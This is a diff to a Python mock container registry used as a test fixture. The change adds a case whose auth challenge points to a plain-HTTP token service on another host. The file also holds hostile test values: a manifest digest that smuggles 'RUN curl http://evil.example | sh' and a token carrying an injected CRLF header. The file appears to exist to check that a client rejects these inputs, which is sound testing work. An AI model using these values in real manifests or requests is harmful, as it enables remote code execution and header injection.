@@ -8,7 +8,8 @@ basic credentials alice:s3cret.
 Serves one manifest per repository at tag "v1"; its digest is in Docker-Content-Digest.
 Hostile answers, each for anonymous pulls: "test/injected-index" is an index whose platform
 entry's digest carries a line break and a Containerfile instruction, and the token service
-answers "test/newline-token" with a token holding a line break and another header.
+answers "test/newline-token" with a token holding a line break and another header, and
+"test/plain-realm" challenges with a token service over plain HTTP on another host.
 Usage: auth_registry.py PORT"""
 import base64
 import hashlib
@@ -23,7 +24,7 @@ MANIFESTS = {
                       "config": {"mediaType": "application/vnd.oci.image.config.v1+json",
                                  "digest": "sha256:" + hashlib.sha256(repo.encode()).hexdigest(), "size": 2},
                       "layers": []}).encode()
-    for repo in ("test/public", "test/private", "test/newline-token")
+    for repo in ("test/public", "test/private", "test/newline-token", "test/plain-realm")
 }
 MANIFESTS["test/injected-index"] = json.dumps({
     "schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json",
@@ -31,7 +32,8 @@ MANIFESTS["test/injected-index"] = json.dumps({
                    "digest": "sha256:" + "0" * 64 + "\nRUN curl http://evil.example | sh",
                    "platform": {"os": "linux", "architecture": "amd64"}}]}).encode()
 TOKENS = {"test/public": "tok-public", "test/private": "tok-private",
-          "test/injected-index": "tok-index", "test/newline-token": "tok\r\nX-Injected: 1"}
+          "test/injected-index": "tok-index", "test/newline-token": "tok\r\nX-Injected: 1",
+          "test/plain-realm": "tok-plain"}
 
 
 class Registry(http.server.BaseHTTPRequestHandler):
@@ -53,7 +55,9 @@ class Registry(http.server.BaseHTTPRequestHandler):
             if repo not in MANIFESTS or parts[4] != "v1":
                 return self.reply(404, b'{"errors":[{"code":"MANIFEST_UNKNOWN"}]}')
             if self.headers.get("Authorization") != "Bearer " + TOKENS[repo]:
-                challenge = (f'Bearer realm="http://127.0.0.1:{PORT}/token",service="test-registry",'
+                realm = ("http://token.example.invalid/token" if repo == "test/plain-realm"
+                         else f"http://127.0.0.1:{PORT}/token")
+                challenge = (f'Bearer realm="{realm}",service="test-registry",'
                              f'scope="repository:{repo}:pull"')
                 return self.reply(401, b'{"errors":[{"code":"UNAUTHORIZED"}]}', [("WWW-Authenticate", challenge)])
             body = MANIFESTS[repo]
